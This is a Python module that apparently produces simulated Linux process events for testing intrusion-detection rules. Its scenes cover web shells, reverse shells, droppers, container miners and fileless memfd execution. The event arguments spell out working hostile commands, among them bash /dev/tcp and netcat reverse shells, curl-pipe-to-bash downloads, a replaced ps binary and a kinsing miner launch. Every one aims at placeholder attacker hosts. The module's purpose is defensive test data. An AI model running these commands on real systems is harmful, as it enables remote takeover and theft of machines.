"""Scenes of attackers coming in: web shells, reverse shells, droppers, programs that were never on a disk."""

# ruff: noqa: D401, S104, S108 - a docstring tells the plot; paths and addresses are part of a story, nothing is opened
from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from ruleglot.events.activity import (
    Access,
    Bind,
    Call,
    ChangeMode,
    Close,
    Connect,
    Duplicate,
    Error,
    Exec,
    Exit,
    FailedExec,
    FileCreate,
    FileDelete,
    FileOpen,
    FileRead,
    FileWrite,
    Fork,
    MemoryFileCreate,
    NewSession,
    Signal,
)
from ruleglot.events.descriptors import Endpoint
from ruleglot.events.identity import Layer
from ruleglot.events.scenes.cast import PTS
from ruleglot.events.scenes.stage import after, detached

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ruleglot.events.activity import LinuxActivity
    from ruleglot.events.scenes.stage import Scene, Stage


def web_shells(stage: Stage) -> Iterator[LinuxActivity]:
    """A web server runs what a visitor wants."""
    apache, nginx, tomcat, store = stage.cast.apache, stage.cast.nginx, stage.cast.tomcat, stage.cast.details.store
    start = stage.start
    yield FileCreate(process=apache, path="/var/www/html/shell.php", story="a web server writes a page")
    yield Exec(process=start(apache, "/bin/sh", "sh -c id"), story="a web shell asks who it is")
    yield Exec(process=start(apache, "/bin/sh", "/bin/sh -i"), story="an interactive web shell")
    shell = start(apache, "/bin/sh", "sh -c 'cd /var/www/html; uname -a; cat /etc/passwd; ls -la'")
    yield Exec(process=shell, story="a web shell looks around")
    yield Exec(process=start(shell, "/usr/bin/uname", "uname -a"), story="what machine is this?")
    yield Exec(
        process=start(apache, "/usr/bin/python3", "python3 -c \"import pty;pty.spawn('/bin/sh')\""),
        story="a web server gets a terminal",
    )
    java = start(tomcat, "/bin/bash", "/bin/bash -c '{echo,Y3VybA==}|{base64,-d}|{bash,-i}'")
    yield Exec(process=java, story="an application server runs braces and base64")
    yield FileCreate(process=tomcat, path="webapps/ROOT/cmd.jsp", story="and writes a page of its own")
    yield Exec(
        process=stage.applet(nginx, "/bin/sh", f"sh -c 'nc -e /bin/sh {stage.cast.details.handler} 4444'"),
        story="a web server in a container opens a shell without a terminal",
    )
    node = start(stage.cast.runner_shell, "/usr/bin/node", "node server.js")
    yield Exec(
        process=start(node, "/bin/sh", f"/bin/sh -c 'wget http://{store}/i.sh -O- | sh'"), story="a node server fetches"
    )


def reverse_shells(stage: Stage) -> Iterator[LinuxActivity]:
    """A shell whose input and output are a connection."""
    bash, handler, start = stage.cast.bash, stage.cast.details.handler, stage.start
    command = start(bash, "/bin/bash", f"bash -c 'bash -i >& /dev/tcp/{handler}/4444 0>&1'")
    yield Exec(process=command, story="a reverse shell in one argument")
    shell = start(command, "/bin/bash", "bash -i")
    call = Connect(process=shell, source=stage.here(), destination=stage.handler(), story="bash itself connects")
    yield call
    yield from _redirected(call, "bash")

    netcat = start(bash, "/usr/bin/nc", f"nc {handler} 4444")
    yield Connect(process=netcat, source=stage.here(), destination=stage.handler(), story="a reverse shell")
    yield Connect(
        process=netcat,
        source=stage.here(),
        destination=stage.handler(),
        error=Error.ECONNREFUSED,
        story="nobody waits for the reverse shell",
    )
    script = 'import socket,os,pty;s=socket.socket();s.connect(("h",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)]'
    python = start(stage.cast.runner_shell, "/usr/bin/python3", f"python3 -c '{script}'")
    yield Exec(process=python, story="a reverse shell in Python")
    call = Connect(
        process=python,
        source=Endpoint(ip="172.17.0.2", port=stage.here().port),
        destination=stage.handler(),
        error=Error.EINPROGRESS,
        story="a reverse shell from a container, without waiting",
    )
    yield call
    yield from _redirected(call, "python")


def _redirected(call: Connect, name: str) -> Iterator[LinuxActivity]:
    """Play how input, output and complaints become a connection, and the shell begins."""
    process, socket = after(call), call.descriptor
    for number, what in enumerate(("input", "output", "complaints")):
        copy = Duplicate(process=process, old=socket, new=number, story=f"the connection is the {what} of {name}")
        yield copy
        process = after(copy)
    yield Close(process=process, descriptor=socket, story=f"{name} needs the first descriptor no more")
    socket, *_ = streams = tuple(each for each in process.descriptors if each != socket)
    shell = replace(
        process, executable="/usr/bin/dash", argv=("/bin/sh",), invoked="/bin/sh", given_comm=None, descriptors=streams
    )
    yield Exec(process=shell, story=f"{name} makes way for a shell at the connection")
    yield FileRead(process=shell, descriptor=socket, data=b"id\n", story=f"an order comes in after {name}")
    yield FileWrite(
        process=shell, descriptor=socket, data=b"uid=1000(bob)\n", story=f"the answer goes out after {name}"
    )


def other_shells(stage: Stage) -> Iterator[LinuxActivity]:
    """The same in other tongues, and shells that wait."""
    bash, handler, start = stage.cast.bash, stage.cast.details.handler, stage.start
    for line, story in (
        (f"socat TCP:{handler}:443 EXEC:/bin/bash,pty,stderr,setsid", "socat connects a shell with a terminal"),
        (f'perl -MIO::Socket -e \'$c=new IO::Socket::INET("{handler}:4444");exec"/bin/sh"\'', "a shell by Perl"),
        (f'php -r \'$s=fsockopen("{handler}",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', "a shell by PHP"),
        (f"awk 'BEGIN{{s=\"/inet/tcp/0/{handler}/4444\"}}'", "a shell by awk"),
        (f"openssl s_client -quiet -connect {handler}:443", "a shell inside TLS"),
        (f"telnet {handler} 4444", "a shell by telnet"),
    ):
        yield Exec(process=start(bash, f"/usr/bin/{line.partition(' ')[0]}", line), story=story)
    waiting = stage.applet(stage.cast.newborn_shell, "/usr/bin/nc", "nc -lvnp 4444 -e /bin/sh")
    yield Exec(process=waiting, story="a listener in a container without metadata")
    yield Bind(process=waiting, address=Endpoint(ip="0.0.0.0", port=4444), story="it waits at port 4444")
    hidden = start(
        bash, "/dev/shm/.dbus-daemon", "./.dbus-daemon", invoked="./.dbus-daemon", cwd="/dev/shm", writable=True
    )
    yield Bind(process=hidden, address=Endpoint(ip="0.0.0.0", port=31337), story="something hidden listens")
    yield Bind(
        process=hidden, address=Endpoint(ip="0.0.0.0", port=53), error=Error.EACCES, story="it may not play name server"
    )


def droppers(stage: Stage) -> Iterator[LinuxActivity]:
    """Something is fetched, made executable, run."""
    bash, store, start = stage.cast.bash, stage.cast.details.store, stage.start
    curl = start(bash, "/usr/bin/curl", f"curl -s -o /tmp/x.sh 'http://{store}/a b?q=1'")
    yield Exec(process=curl, story="curl fetches a script")
    yield Connect(process=curl, source=stage.here(), destination=stage.store(), story="from a stranger's machine")
    yield FileCreate(process=curl, path="/tmp/x.sh", story="the script lands in /tmp")
    yield Exit(process=curl, story="curl has done its part")
    chmod = start(bash, "/usr/bin/chmod", "chmod 777 /tmp/x.sh")
    yield Exec(process=chmod, story="everybody shall run it")
    yield ChangeMode(process=chmod, path="/tmp/x.sh", mode=0o777, story="and now everybody may")
    script = start(bash, "/bin/sh", "/bin/sh /tmp/x.sh", invoked="/tmp/x.sh", writable=True)
    yield Exec(process=script, story="the script runs")
    yield FileDelete(
        process=start(script, "/usr/bin/rm", "rm -f /tmp/x.sh"), path="/tmp/x.sh", story="it removes itself"
    )
    for line, story in (
        (f"bash -c 'wget http://{store}/x'", "wget is a word inside one argument of a shell"),
        (f"bash -c 'curl -fsSL http://{store}/p.sh | bash'", "download and run in one argument"),
        ("bash -c 'echo aWQ= | base64 -d | sh'", "decoded and run"),
        (
            f'bash -c \'cd /var/tmp; python3 -c "import urllib.request as r;exec(r.urlopen(\\"http://{store}\\").read())"\'',
            "fetched and run by Python",
        ),
    ):
        yield Exec(process=start(bash, "/bin/bash", line), story=story)
    yield Exec(process=start(bash, "/usr/bin/base64", "base64 -d"), story="something is decoded")
    yield FailedExec(
        process=bash, path="/tmp/x.sh", error=Error.EACCES, argv=("/tmp/x.sh",), story="somebody forgot chmod"
    )
    yield FailedExec(
        process=bash, path="/var/tmp/.a/arm7", error=Error.ENOEXEC, argv=("./arm7",), story="made for another machine"
    )


def droppers_in_containers(stage: Stage) -> Iterator[LinuxActivity]:
    """The same where a shell was opened in a container."""
    shell, store = stage.cast.web_shell, stage.cast.details.store
    dropped = {"layer": Layer.UPPER}
    curl = stage.start(shell, "/usr/bin/curl", f"curl http://{store}/k", **dropped)
    yield Exec(process=curl, story="curl in a container")
    yield Exec(
        process=stage.start(shell, "/bin/busybox", f"busybox wget -O /tmp/kinsing http://{store}/k"),
        story="busybox told to be wget",
    )
    wget = stage.applet(shell, "/usr/bin/wget", f"wget -q http://{store}/k")
    yield Exec(process=wget, story="busybox called by the name of wget")
    yield Connect(process=wget, source=stage.in_pod(), destination=stage.store(), story="the pod goes to a stranger")
    chmod = stage.applet(shell, "/bin/chmod", "chmod +x /tmp/kinsing")
    yield ChangeMode(
        process=chmod, path="/tmp/kinsing", mode=0o755, call=Call.CHMOD, story="busybox makes it executable"
    )
    yield Exec(
        process=stage.start(shell, "/tmp/kinsing", "/tmp/kinsing -B --donate-level 1", cwd="/tmp", **dropped),
        story="a miner starts",
    )
    yield Exec(
        process=stage.start(shell, "/dev/shm/.x", "./.x", invoked="./.x", cwd="/dev/shm", layer=None),
        story="a hidden file in shm",
    )
    yield FileCreate(
        process=stage.start(shell, "/bin/busybox", f"busybox wget -O /usr/bin/ps http://{store}/ps"),
        path="/usr/bin/ps",
        story="busybox told to be wget replaces ps",
    )
    yield FileCreate(
        process=stage.applet(shell, "/usr/bin/wget", f"wget http://{store}/x"),
        path="/usr/bin/ps",
        story="busybox called wget replaces ps",
    )
    yield FileCreate(
        process=stage.start(shell, "/bin/busybox", f"busybox sh -c 'busybox wget http://{store}/x'"),
        path="/usr/bin/ps",
        story="wget is only a word inside an argument",
    )
    apt = stage.start(stage.cast.debug_shell, "/usr/bin/apt-get", "apt-get install -y gcc nmap netcat-openbsd")
    yield Exec(process=apt, story="tools are installed in a pod")


def in_memory(stage: Stage) -> Iterator[LinuxActivity]:
    """Programs that are in no directory."""
    apache, handler = stage.cast.apache, stage.cast.details.handler
    perl = stage.start(apache, "/usr/bin/perl", "perl -e 'syscall(319,$n,1)'", cwd="/tmp")
    file = MemoryFileCreate(process=perl, name="", close_on_exec=False, story="a file in memory without a name")
    yield file
    loaded = after(file)
    yield FileWrite(process=loaded, descriptor=file.descriptor, data=b"\x7fELF", story="a program is written to it")
    nameless = replace(loaded, executable="memfd:", argv=("apache2",), invoked="/proc/self/fd/3")
    yield Exec(process=nameless, story="and runs under the web server's name")
    python = stage.start(stage.cast.newborn_shell, "/usr/bin/python3.11", "python3 -")
    yield MemoryFileCreate(process=python, name="libsystem", number=9, story="memory with the name of a library")
    kept = stage.start(python, "memfd:libsystem", f"sshd -c {handler}", invoked="/proc/self/fd/9", layer=None)
    yield Exec(process=kept, story="a program in memory that calls itself sshd")
    child = stage.fork(kept)
    yield Fork(process=child, story="it forks")
    child = detached(child)
    yield NewSession(process=child, story="and leaves the terminal")
    yield Exit(process=kept, story="the one that was started is gone")
    yield Exit(process=child, signal=Signal.SIGSEGV, story="and its child has crashed")
    preload = stage.start(stage.cast.bash, "/usr/bin/curl", environment=("LD_PRELOAD=/tmp/x.so", "EMPTY="))
    yield Exec(process=preload, story="curl with a preloaded library")
    deleted = stage.start(
        stage.cast.bash,
        "/var/tmp/.ICE-unix/x",
        "./x",
        invoked="./x",
        cwd="/var/tmp/.ICE-unix",
        terminal=PTS,
        writable=True,
    )
    yield FileDelete(process=deleted, path="x", call=Call.UNLINK, story="a program removes its own file")
    yield FileOpen(process=deleted, path=f"/proc/{deleted.pid}/exe", access=Access.READ, story="and still can read it")


HOSTILE: tuple[Scene, ...] = (
    web_shells,
    reverse_shells,
    other_shells,
    droppers,
    droppers_in_containers,
    in_memory,
)
